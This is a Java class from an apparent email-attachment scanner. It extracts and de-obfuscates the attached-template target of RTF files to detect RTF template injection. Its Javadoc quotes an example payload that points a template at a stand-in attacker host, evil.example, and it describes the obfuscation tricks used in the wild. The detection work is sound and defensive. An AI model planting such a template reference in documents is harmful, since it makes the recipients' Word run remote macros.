package io.mamori.core.attachment;

import java.nio.charset.StandardCharsets;
import java.util.Optional;

/**
 * The attached template of an RTF document ({@code {\*\template C:\\Templates\\Normal.dotm}}, RTF 1.9.1 "Document
 * information"): Word loads it when the document opens, so a template at a network address
 * ({@code {\*\template http://evil.example/t.dotm}}) runs the macros of a file the message never carried (RTF template
 * injection, the RTF form of MITRE ATT&amp;CK T1221), the attack's usual way past macro filters.
 *
 * <p>Hand-written: no Java library reads RTF's destinations (Tika's and Swing's RTF readers extract the document's text
 * and skip {@code \*} destinations, which is what the template is). What the target's text needs is little: the
 * destination's plain characters, {@code \'hh} hexadecimal bytes (read as Windows-1252, the RTF default) and
 * <code>&#92;uN</code> Unicode characters (with the fallback characters after them skipped, <code>&#92;ucN</code>), other control words
 * and groups ignored, line breaks dropped (RTF readers ignore them), which is how the target is obfuscated in the wild.
 * Bounded: the caller passes at most the first part of the file; at most {@value #MAX_TARGET} characters of the target
 * are kept. Stateless.
 */
final class RtfTemplate {

    static final int MAX_TARGET = 2048;
    private static final byte[] TEMPLATE = "\\*\\template".getBytes(StandardCharsets.US_ASCII);
    private static final java.nio.charset.Charset WINDOWS_1252 = java.nio.charset.Charset.forName("windows-1252");

    private RtfTemplate() {
    }

    /** The target of the first template destination of an RTF file's bytes, or empty. */
    static Optional<String> of(byte[] rtf) {
        int at = find(rtf);
        if (at < 0) {
            return Optional.empty();
        }
        StringBuilder target = new StringBuilder();
        int depth = 0;
        int skip = 0; // fallback characters still to skip after a \\uN
        int fallback = 1; // \\ucN: how many follow each \\uN
        int i = at;
        // a space after the control word belongs to it
        if (i < rtf.length && rtf[i] == ' ') {
            i++;
        }
        while (i < rtf.length && target.length() < MAX_TARGET) {
            byte b = rtf[i];
            if (b == '\r' || b == '\n') {
                i++;
            } else if (b == '{') {
                depth++;
                i++;
            } else if (b == '}') {
                if (depth == 0) {
                    break;
                }
                depth--;
                i++;
            } else if (b == '\\' && i + 1 < rtf.length) {
                byte next = rtf[i + 1];
                if (next == '\'' && i + 3 < rtf.length) {
                    int hex = hex(rtf[i + 2], rtf[i + 3]);
                    i += 4;
                    if (hex >= 0 && depth == 0 && !skipped(skip)) {
                        target.append(new String(new byte[] {(byte) hex}, WINDOWS_1252));
                    }
                    skip = Math.max(0, skip - 1);
                } else if (isLetter(next)) {
                    int start = i + 1;
                    int end = start;
                    while (end < rtf.length && isLetter(rtf[end])) {
                        end++;
                    }
                    String word = new String(rtf, start, end - start, StandardCharsets.US_ASCII);
                    int numberEnd = end;
                    if (numberEnd < rtf.length && rtf[numberEnd] == '-') {
                        numberEnd++;
                    }
                    while (numberEnd < rtf.length && rtf[numberEnd] >= '0' && rtf[numberEnd] <= '9') {
                        numberEnd++;
                    }
                    Integer number = null;
                    // a parameter out of range (more digits than an int holds) is no parameter
                    if (numberEnd > end && numberEnd - end <= 11 && !(numberEnd == end + 1 && rtf[end] == '-')) {
                        try {
                            number = Integer.parseInt(new String(rtf, end, numberEnd - end, StandardCharsets.US_ASCII));
                        } catch (NumberFormatException tooLarge) {
                            number = null;
                        }
                    }
                    i = numberEnd < rtf.length && rtf[numberEnd] == ' ' ? numberEnd + 1 : numberEnd;
                    if (word.equals("u") && number != null) {
                        if (depth == 0) {
                            target.append((char) (number < 0 ? number + 65536 : number));
                        }
                        skip = fallback;
                    } else if (word.equals("uc") && number != null && number >= 0 && number < 10) {
                        fallback = number;
                    }
                } else {
                    // an escaped character (\\\\, \\{, \\}) is itself; other control symbols are nothing here
                    if ((next == '\\' || next == '{' || next == '}') && depth == 0 && !skipped(skip)) {
                        target.append((char) next);
                    }
                    skip = Math.max(0, skip - 1);
                    i += 2;
                }
            } else {
                if (depth == 0 && !skipped(skip)) {
                    target.append((char) (b & 0xff));
                }
                skip = Math.max(0, skip - 1);
                i++;
            }
        }
        String t = target.toString().strip();
        return t.isEmpty() ? Optional.empty() : Optional.of(t);
    }

    private static boolean skipped(int skip) {
        return skip > 0;
    }

    /** Where the template destination's text starts (after {@code \*\template}), or -1; line breaks inside ignored. */
    private static int find(byte[] rtf) {
        for (int i = 0; i < rtf.length; i++) {
            if (rtf[i] != '\\') {
                continue;
            }
            int j = i;
            int k = 0;
            while (j < rtf.length && k < TEMPLATE.length) {
                if (rtf[j] == '\r' || rtf[j] == '\n') {
                    j++;
                    continue;
                }
                if (rtf[j] != TEMPLATE[k]) {
                    break;
                }
                j++;
                k++;
            }
            if (k == TEMPLATE.length && (j >= rtf.length || !isLetter(rtf[j]))) {
                return j;
            }
        }
        return -1;
    }

    private static boolean isLetter(byte b) {
        return (b >= 'a' && b <= 'z') || (b >= 'A' && b <= 'Z');
    }

    private static int hex(byte hi, byte lo) {
        int h = Character.digit(hi, 16);
        int l = Character.digit(lo, 16);
        return h < 0 || l < 0 ? -1 : h * 16 + l;
    }
}
